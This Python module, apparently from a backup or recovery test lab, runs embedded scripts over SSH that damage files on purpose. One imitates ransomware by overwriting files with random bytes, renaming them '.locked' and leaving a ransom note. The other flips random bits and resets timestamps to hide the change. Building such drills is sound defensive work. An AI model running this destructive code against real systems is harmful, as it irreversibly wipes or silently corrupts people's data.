"""Damage on purpose: what ransomware and what a dying disk do to files."""
import shlex

from . import remote
from .inventory import LabError, chosen

ENCRYPT = '''
import os, sys
count = 0
for top in sys.argv[1:]:
    paths = [top] if os.path.isfile(top) else [os.path.join(d, f) for d, _, fs in os.walk(top) for f in fs]
    for path in paths:
        if os.path.islink(path) or not os.path.isfile(path) or path.endswith(".locked"):
            continue
        size = os.path.getsize(path)
        with open(path, "r+b") as file:
            for start in range(0, size, 1 << 20):
                file.write(os.urandom(min(1 << 20, size - start)))
        os.rename(path, path + ".locked")
        count += 1
    with open(os.path.join(top if os.path.isdir(top) else os.path.dirname(top), "READ-ME-TO-RESTORE.txt"), "w") as file:
        file.write("Your files are encrypted.\\n")
print(count)
sys.exit(0 if count else f"{sys.argv[1]}: no file found")
'''

CORRUPT = '''
import os, random, sys
count = 0
for top in sys.argv[1:]:
    paths = [top] if os.path.isfile(top) else [os.path.join(d, f) for d, _, fs in os.walk(top) for f in fs]
    for path in paths:
        size = 0 if os.path.islink(path) or not os.path.isfile(path) else os.path.getsize(path)
        if not size:
            continue
        times = os.stat(path)
        with open(path, "r+b") as file:
            for _ in range(max(1, min(16, size // 4096))):
                at = random.randrange(size)
                file.seek(at)
                old = file.read(1)[0]
                file.seek(at)
                file.write(bytes([old ^ (1 << random.randrange(8))]))
        os.utime(path, ns=(times.st_atime_ns, times.st_mtime_ns))
        count += 1
print(count)
sys.exit(0 if count else f"{sys.argv[1]}: no file with content found")
'''


def damage(lab, script, host, path):
    """Runs one of the scripts above on a host; returns the number of files it changed."""
    chosen([host])
    if not path.startswith("/") or path.rstrip("/") == "":
        raise LabError(f"'{path}': expected an absolute path below /")
    return int(remote.ssh(lab, host, f"/usr/bin/python3 - {shlex.quote(path)}", input=script))
